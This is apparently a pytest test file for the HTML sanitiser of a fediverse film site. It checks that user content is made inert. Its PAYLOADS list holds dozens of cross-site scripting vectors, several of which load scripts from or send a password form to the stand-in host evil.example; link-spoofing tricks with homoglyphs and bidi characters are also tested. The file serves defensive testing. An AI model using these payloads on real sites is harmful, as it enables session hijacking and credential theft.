"""Text that others wrote, on our pages: it may speak, it may not act, nor look like us."""

import re
from html.parser import HTMLParser

import pytest

from fediverse_cinema.foundation import html
from fediverse_cinema.foundation.errors import Refused

# Payloads after the OWASP filter evasion cheat sheet, Cure53's DOMPurify corpus and BookWyrm's CVE-2022-31136.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><img src onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://a.example/' onclick='alert(1)' onmouseover=alert(1)>x</a>",
    "<p style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action='//evil.example/'><input name=password><button formaction='javascript:alert(1)'>Go</button></form>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<p lang='\"><img src=x onerror=alert(1)>'>x</p>",
    "<a href='https://a.example/\"><img src=x onerror=alert(1)>'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
ALLOWED = {"lang", "dir", "translate", "href", "rel", "class", "start", "reversed", "value"}


class Elements(HTMLParser):
    """Every element with its attributes, as a reader other than the sanitiser finds them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def is_inert(text: str) -> bool:
    for tag, attributes in Elements(text).found:
        if tag not in html.TAGS or not attributes.keys() <= ALLOWED:
            return False
        if not re.match(r"https?://|mailto:|\Z", attributes.get("href") or ""):
            return False
    return "<!" not in text and "<?" not in text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_WEB_01_no_payload_acts(payload: str) -> None:
    assert is_inert(html.clean(payload))
    assert is_inert(html.clean(f"<p>before {payload} after</p>"))
    assert is_inert(html.markdown(payload))
    assert is_inert(html.markdown(f"# before\n\n- {payload}\n\n[x]({payload})"))


def test_WEB_01_the_judge_knows_a_payload_when_it_sees_one() -> None:
    assert not is_inert("<img src=x>") and not is_inert("<p onclick=x>") and not is_inert("<a href='javascript:x'>")


KEPT = [
    "<p>Un film de <strong>Malo</strong>,<br>musique de <em>Leïla</em>.</p>",
    '<ul><li>un</li></ul><ol start="3"><li value="4">quatre</li></ol>',
    '<p lang="br">Ur film <del>kozh</del> <u>nevez</u></p>',
    "<blockquote><p>Elle a dit</p></blockquote><pre><code>ffmpeg -i a.mkv</code></pre>",
    "<h3>Titre</h3><h4>Sous-titre</h4>",
    '<a class="u-url mention" href="https://a.example" rel="nofollow noopener ugc"><span class="ellipsis">x</span></a>',
    '<a href="mailto:malo@pole.example" rel="nofollow noopener ugc">malo</a>',
    '<a href="https://a.example/?a=1&amp;b=[2]#c" rel="nofollow noopener ugc">x</a>',
]


@pytest.mark.parametrize("text", KEPT)
def test_what_people_write_stays_as_it_is(text: str) -> None:
    assert html.clean(text) == text
    assert html.clean(html.clean(text)) == text


LINKS = {
    "WEB-03 without scheme": ("//evil.example/", None),
    "WEB-03 without scheme, backslashes": ("\\\\evil.example/", None),
    "WEB-03 relative, as if ours": ("/logout", None),
    "WEB-03 user info": ("https://good.example@evil.example/", None),
    "WEB-03 user info and port": ("https://good.example:443@evil.example/", None),
    "WEB-03 backslash before at": ("https://evil.example\\@good.example/", None),
    "WEB-03 backslash, a slash to browsers": ("https://evil.example\\.good.example/", None),
    "WEB-03 percent in the host": ("https://%65vil.example/", None),
    "WEB-03 zero-width space": ("https://good\u200b.example/", None),
    "WEB-03 turned around": ("https://\u202eelpmaxe.doog/", "https://elpmaxe.doog/"),
    "WEB-03 look-alike letters": ("https://аррӏе.com/x?é", "https://xn--80ak6aa92e.com/x?é"),
    "WEB-03 accents": ("https://Pôle.example:8443/", "https://xn--ple-kna.example:8443/"),
    "WEB-03 fullwidth letters": ("https://ｇood.example/", None),
    "no host": ("https:///x", None),
    "broken IPv6": ("https://[::1", None),
    "another scheme": ("ftp://a.example/", None),
    "plain": ("http://a.example/x", "http://a.example/x"),
}


@pytest.mark.parametrize(("written", "shown"), LINKS.values(), ids=LINKS)
def test_WEB_03_a_link_shows_where_it_leads_or_is_none(written: str, shown: str | None) -> None:
    ((_, attributes),) = Elements(html.clean(f'<a href="{written}" rel="me" target="_top">x</a>')).found
    assert attributes.get("href") == shown
    assert attributes["rel"] == "nofollow noopener ugc" and "target" not in attributes


def test_WEB_03_letters_that_turn_the_text_around_are_removed() -> None:
    assert html.clean("<p>\u202emoc.live\u202c\u2066x\u2069 שלום</p>") == "<p>moc.livex שלום</p>"
    assert html.plain("\u202eolaM") == "olaM"


def test_WEB_04_nothing_dresses_up_as_a_part_of_our_pages() -> None:
    dressed = (
        '<p id="viewer" class="btn mention" name="csrf" data-x="1" hx-get="/"><span class="invisible card">x</span></p>'
    )
    assert html.clean(dressed) == '<p><span class="invisible">x</span></p>'


DEEP = {
    "div": "<div>" * 65,
    "mixed": "<div><b><i><ul>" * 17,
    "closed": "<blockquote>" * 65 + "x" + "</blockquote>" * 65,
    "foreign end tags": "<div></span>" * 65,
    "unclosed inside closed": "<div><b></div>" * 65,
    "capital letters": "<DIV><div/>" * 33,
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP)
def test_what_is_nested_too_deeply_is_refused_before_it_is_parsed(text: str) -> None:
    for read in (html.clean, html.plain):
        with pytest.raises(Refused) as refusal:
            read(text)
        assert refusal.value.code == "html_depth"


LARGE = {
    "length": "x" * 100_001,
    "tags that pretend to end": "".join(f"<b lang=a{number}><?</b>" for number in range(4001)),
    "<b> that comes back in each paragraph": "<p>"
    + "".join(f"<b lang={n}>" for n in range(64))
    + "</p>"
    + "<p>x</p>" * 3900,
}


@pytest.mark.parametrize("text", LARGE.values(), ids=LARGE)
def test_what_is_too_large_or_would_become_so_is_refused(text: str) -> None:
    with pytest.raises(Refused) as refusal:
        html.clean(text)
    assert refusal.value.code == "html_size"


def test_long_and_broad_texts_are_read() -> None:
    assert html.clean("<p>x</p>" * 3000) == "<p>x</p>" * 3000
    assert html.clean("<p>x" * 3000).count("<p>") == 3000
    assert html.clean("<div>" * 64 + "x") == "x"
    assert len(html.clean("x" * 100_000)) == 100_000


@pytest.mark.anyio
@pytest.mark.parametrize("times", [1, 2000])
async def test_off_the_loop_the_result_is_the_same(times: int) -> None:
    text = "<p onclick=x>hello</p>" * times
    assert await html.clean_off_loop(text) == html.clean(text) == "<p>hello</p>" * times


MARKDOWN = [
    ("# Titre\n\n###### Petit", "<h3>Titre</h3>\n<h6>Petit</h6>\n"),
    ("un ~~deux~~ **trois**", "<p>un <s>deux</s> <strong>trois</strong></p>\n"),
    ("<b>x</b> & y", "<p>&lt;b&gt;x&lt;/b&gt; &amp; y</p>\n"),
    ("[x](https://a.example)", '<p><a href="https://a.example" rel="nofollow noopener ugc">x</a></p>\n'),
    ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
]


@pytest.mark.parametrize(("written", "shown"), MARKDOWN)
def test_markdown_becomes_clean_html(written: str, shown: str) -> None:
    assert html.markdown(written) == shown


def test_markdown_has_the_same_bounds() -> None:
    with pytest.raises(Refused):
        html.markdown("\n" * 100_001)


PLAIN = [
    ("<p>Les <b>Dériveurs</b></p><p>un&nbsp;film</p>", "Les Dériveurs un film"),
    ("a<br>b<br/>c\n\n d", "a b c d"),
    ("<ul><li>un</li><li>deux</li></ul>", "un deux"),
    ("<script>alert(1)</script>Malo", "Malo"),
    ("Tom &amp; Jerry &lt;3", "Tom & Jerry <3"),
    ("1 < 2 & 3 > 2", "1 < 2 & 3 > 2"),
    ("Ma\x00lo\x07", "Malo"),
    ("", ""),
]


@pytest.mark.parametrize(("written", "text"), PLAIN)
def test_plain_text_is_what_was_said_on_one_line(written: str, text: str) -> None:
    assert html.plain(written) == text
